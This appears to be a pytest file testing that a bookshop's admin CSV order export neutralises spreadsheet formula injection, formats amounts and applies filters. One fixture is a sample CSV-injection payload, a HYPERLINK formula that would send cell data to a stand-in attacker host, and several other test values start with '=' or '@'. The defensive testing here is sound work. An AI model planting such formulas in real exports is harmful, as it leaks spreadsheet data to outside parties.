"""CSV export of orders: formula injection neutralised, plain amounts, every match."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from sky_readers.admin import orders as admin_orders
from sky_readers.admin.orders_csv import (
    COLUMNS,
    csv_chunks,
    export_record,
    neutralise_formula,
    plain_amount,
)
from tests.admin.order_builders import book, move_to, place, shopper
from tests.orders.fixtures import ADDRESS

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


pytestmark = pytest.mark.usefixtures("card_gateway")


def _read(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def _export(session, filters=None, batch_size=500) -> str:
    rows = admin_orders.iter_export_rows(
        session, filters or admin_orders.OrderFilters(), batch_size=batch_size
    )
    return "".join(csv_chunks(rows))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=cmd", "'\t=cmd"),
        ("\r=cmd", "'\r=cmd"),
        ("Dune", "Dune"),
        ("a=b", "a=b"),
        (" =spaced", " =spaced"),
        ("", ""),
    ],
)
def test_neutralise_formula(text, expected):
    assert neutralise_formula(text) == expected


@pytest.mark.parametrize(
    ("amount", "currency", "expected"),
    [
        (Decimal("37.36"), "USD", "37.36"),
        (Decimal("4.9"), "USD", "4.90"),
        (Decimal("0"), "USD", "0.00"),
        (Decimal("1234567.5"), "USD", "1234567.50"),
        (Decimal("1235"), "JPY", "1235"),
        (Decimal("1E+3"), "USD", "1000.00"),
    ],
)
def test_plain_amount(amount, currency, expected):
    assert plain_amount(amount, currency) == expected


def test_export_neutralises_hostile_names_and_titles(session):
    buyer = shopper(session, name="@Mallory", email="mallory@example.test")
    evil = book(session, HOSTILE_TITLE, price="12.99")
    minus = book(session, "-1 Ways to Fail", price="5.00")
    address = {**ADDRESS, "name": "+Ada =Lovelace", "city": "-Portland"}
    order = place(session, buyer, [(evil, 2), (minus, 1)], address=address)

    [row] = _read(_export(session))

    assert row["order_number"] == order.number
    assert row["customer_name"] == "'@Mallory"
    assert row["customer_email"] == "mallory@example.test"
    assert row["ship_to_name"] == "'+Ada =Lovelace"
    assert row["ship_to_city"] == "'-Portland"
    assert row["books"] == "'" + HOSTILE_TITLE + " × 2; -1 Ways to Fail × 1"
    assert row["card_brand"] == "Visa"
    assert row["card_last4"] == "4242"
    assert row["copies"] == "3"
    # 2 x 12.99 + 5.00 = 30.98; shipping 4.99; tax 2.4784 -> 2.48; total 38.45.
    assert [row[n] for n in ("subtotal", "shipping", "tax", "total")] == [
        "30.98",
        "4.99",
        "2.48",
        "38.45",
    ]
    assert row["currency"] == "USD"
    assert row["status"] == "paid"
    assert row["placed_at_utc"].endswith("Z")
    for name, value in row.items():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), name


def test_export_record_neutralises_tab_and_carriage_return(session):
    buyer = shopper(session, name="Plain Name")
    order = place(session, buyer, [(book(session, "Plain"), 1)])
    [row] = list(admin_orders.iter_export_rows(session, admin_orders.OrderFilters()))
    row.items[0].title = "\t=1+1"
    row.order.ship_name = "\r@x"

    cells = dict(zip(COLUMNS, export_record(row), strict=True))

    assert cells["books"] == "'\t=1+1 × 1"
    assert cells["ship_to_name"] == "'\r@x"
    assert cells["order_number"] == order.number
    session.rollback()


def test_export_has_header_and_crlf_rows(session):
    text = _export(session)

    assert text == "\ufeff" + ",".join(COLUMNS) + "\r\n"


def test_export_applies_filters_and_reads_in_batches(session):
    admin = shopper(session, name="Ada Admin")
    buyer = shopper(session, name="Batch Buyer")
    other = shopper(session, name="Somebody Else")
    title = book(session, "Batch Book", price="3.00")
    mine = [place(session, buyer, [(title, 1)]) for _ in range(5)]
    place(session, other, [(title, 1)])
    move_to(session, mine[0], "shipped", admin)

    everything = _read(_export(session, batch_size=2))
    filtered = _read(
        _export(session, admin_orders.parse_filters(customer="batch", status="paid"), 2)
    )

    assert len(everything) == 6
    assert len({row["order_number"] for row in everything}) == 6
    assert [row["order_number"] for row in filtered] == [
        order.number for order in reversed(mine[1:])
    ]
    assert {row["customer_name"] for row in filtered} == {"Batch Buyer"}
